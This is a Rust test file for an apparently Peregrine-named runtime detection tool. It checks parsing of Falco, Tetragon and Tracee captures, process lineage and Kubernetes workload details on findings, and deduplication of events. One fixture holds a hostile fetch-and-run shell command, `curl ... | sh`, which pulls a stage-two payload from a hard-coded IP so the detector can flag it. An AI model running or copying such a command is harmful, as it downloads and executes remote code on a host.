//! Runtime events end to end: the sensors' real captures read without a complaint, and
//! runtime findings raised by real rule modules, with lineage and workload.

use std::path::{Path, PathBuf};

use peregrine_e2e::{scan, shipped_rules_dir, workspace_path};

fn files_under(dir: &Path, out: &mut Vec<PathBuf>) {
    for entry in std::fs::read_dir(dir).unwrap().flatten() {
        let path = entry.path();
        if path.is_dir() {
            files_under(&path, out);
        } else if path.extension().is_some_and(|e| e == "json" || e == "jsonl") {
            out.push(path);
        }
    }
}

#[test]
fn every_sensor_capture_of_the_corpus_is_read_without_a_complaint() {
    let mut files = Vec::new();
    files_under(&workspace_path("tests/corpus/runtime"), &mut files);
    files.sort();
    let scanned = scan(shipped_rules_dir(), &files);
    assert_eq!(scanned.notices, Vec::<String>::new());
    let report = &scanned.report;
    assert_eq!(report.malformed, 0);
    assert_eq!(report.files_failed, 0);
    // 61 Tetragon events, 9 Falco alerts, 81 Tracee events (6 more Tracee events have no
    // activity: reads and closes): see the MANIFESTs.
    assert_eq!(report.runtime_events_read, 61 + 9 + 81);
    assert_eq!(report.events_read, report.runtime_events_read);
    // Two captures are in the corpus twice (one Tetragon exec in two docs pages, one Falco
    // alert in the docs and a blog post): each is judged once.
    assert_eq!(report.events_judged, report.runtime_events_read - 2);
    // The corpus holds one kernel module load (insmod of an out-of-tree module) and the
    // kernel's request for xfs; nothing in it is on the test lists.
    let mut types: Vec<&str> = report
        .findings
        .iter()
        .map(|f| f.finding_type.as_str())
        .collect();
    types.dedup();
    assert_eq!(types, vec!["DefenseEvasion:Runtime/KernelModuleLoaded"]);
}

#[test]
fn a_runtime_finding_carries_the_process_its_lineage_and_its_workload() {
    let dir = tempfile::tempdir().unwrap();
    // Tetragon without --enable-ancestors: each event names only its parent; the exec
    // events before it let the host give the connect its whole lineage.
    let exec = |id: &str, parent: &str, binary: &str, args: &str, time: &str| {
        serde_json::json!({"process_exec": {"process": {
            "exec_id": id, "parent_exec_id": parent, "pid": 100 + id.len(), "uid": 0,
            "binary": binary, "arguments": args, "cwd": "/app", "flags": "execve clone",
            "start_time": time,
            "pod": {"namespace": "shop", "name": "api-5c9d7-xk2lp", "uid": "9a8b7c6d-1e2f-4a3b-8c4d-5e6f7a8b9c0d",
                    "container": {"id": "containerd://2f1e0d9c8b7a69584736251403f2e1d0", "name": "api",
                                  "image": {"id": "registry.example.com/shop/api@sha256:abcd", "name": "registry.example.com/shop/api:1.4"},
                                  "pid": 7},
                    "workload": "api", "workload_kind": "Deployment"}}},
         "node_name": "gke-node-1", "time": time})
    };
    let mut connect = exec(
        "ZXhlYzM=",
        "ZXhlYzI=",
        "/usr/bin/curl",
        "-s http://45.155.205.233/stage2",
        "2026-11-30T10:00:02Z",
    );
    let process = connect["process_exec"]["process"].take();
    connect = serde_json::json!({"process_kprobe": {"process": process, "function_name": "tcp_connect",
        "policy_name": "peregrine-network",
        "args": [{"sock_arg": {"family": "AF_INET", "protocol": "IPPROTO_TCP", "saddr": "10.4.0.7",
                                "daddr": "45.155.205.233", "sport": 51000, "dport": 80}}]},
        "node_name": "gke-node-1", "time": "2026-11-30T10:00:03Z"});
    let lines = [
        exec("ZXhlYzE=", "c2hpbQ==", "/app/server", "--port 8080", "2026-11-30T10:00:00Z"),
        exec("ZXhlYzI=", "ZXhlYzE=", "/bin/sh", "-c \"curl -s http://45.155.205.233/stage2 | sh\"", "2026-11-30T10:00:01Z"),
        exec("ZXhlYzM=", "ZXhlYzI=", "/usr/bin/curl", "-s http://45.155.205.233/stage2", "2026-11-30T10:00:02Z"),
        connect,
    ];
    let file = dir.path().join("tetragon.log");
    let text: String = lines.iter().map(|l| format!("{l}\n")).collect();
    std::fs::write(&file, text).unwrap();

    let scanned = scan(shipped_rules_dir(), &[file]);
    assert_eq!(scanned.notices, Vec::<String>::new());
    let findings = &scanned.report.findings;
    assert_eq!(findings.len(), 1, "{findings:#?}");
    let json = serde_json::to_value(&findings[0]).unwrap();
    assert_eq!(json["type"], "Backdoor:Runtime/C&CActivity.B");
    assert_eq!(json["severity"], 8.0);
    assert_eq!(json["service"]["featureName"], "RuntimeMonitoring");
    assert_eq!(json["service"]["action"], serde_json::json!({}));
    assert!(json["service"].get("resourceRole").is_none());
    assert!(json["resource"]["kubernetesDetails"].get("kubernetesUserDetails").is_none());

    let process = &json["service"]["runtimeDetails"]["process"];
    assert_eq!(process["executablePath"], "/usr/bin/curl");
    assert_eq!(process["name"], "curl");
    assert_eq!(process["namespacePid"], 7);
    assert_eq!(process["user"], "root");
    assert_eq!(process["commandLine"], "/usr/bin/curl -s http://45.155.205.233/stage2");
    let lineage: Vec<&str> = process["lineage"]
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["executablePath"].as_str().unwrap())
        .collect();
    assert_eq!(lineage, vec!["/bin/sh", "/app/server"]);
    assert_eq!(process["parentUuid"], process["lineage"][0]["uuid"]);
    assert_eq!(process["lineage"][0]["parentUuid"], process["lineage"][1]["uuid"]);
    assert_eq!(
        json["service"]["runtimeDetails"]["context"],
        serde_json::json!({"addressFamily": "AF_INET", "ianaProtocolNumber": "6"})
    );
    assert_eq!(
        json["service"]["evidence"]["threatIntelligenceDetails"][0]["threatListName"],
        "Peregrine known malicious IPs"
    );

    let workload = &json["resource"]["kubernetesDetails"]["kubernetesWorkloadDetails"];
    assert_eq!(workload["name"], "api");
    assert_eq!(workload["type"], "deployments");
    assert_eq!(workload["namespace"], "shop");
    assert_eq!(workload["podName"], "api-5c9d7-xk2lp");
    assert_eq!(workload["containers"][0]["image"], "registry.example.com/shop/api:1.4");
    assert_eq!(workload["containers"][0]["imagePrefix"], "registry.example.com/shop");
    assert_eq!(workload["containers"][0]["containerRuntime"], "containerd");
    assert_eq!(json["resource"]["nodeDetails"]["name"], "gke-node-1");
    assert_eq!(json["resource"]["resourceType"], "EKSCluster");
    assert_eq!(json["service"]["eventFirstSeen"], "2026-11-30T10:00:03.000Z");
    assert_eq!(json["service"]["additionalInfo"]["sensor"], "tetragon");
}

#[test]
fn a_resent_runtime_event_is_judged_once() {
    let dir = tempfile::tempdir().unwrap();
    let positive =
        std::fs::read_to_string(workspace_path("rules/backdoor-runtime-c-and-c-activity-b/fixtures/positive.jsonl"))
            .unwrap();
    let file = dir.path().join("twice.jsonl");
    std::fs::write(&file, format!("{positive}{positive}")).unwrap();
    let scanned = scan(shipped_rules_dir(), &[file]);
    let report = &scanned.report;
    assert_eq!(report.runtime_events_read, 8);
    assert_eq!(report.events_judged, 4);
    let counts: Vec<u64> = report.findings.iter().map(|f| f.service.count).collect();
    assert_eq!(counts.iter().sum::<u64>(), 4, "{counts:?}");
}
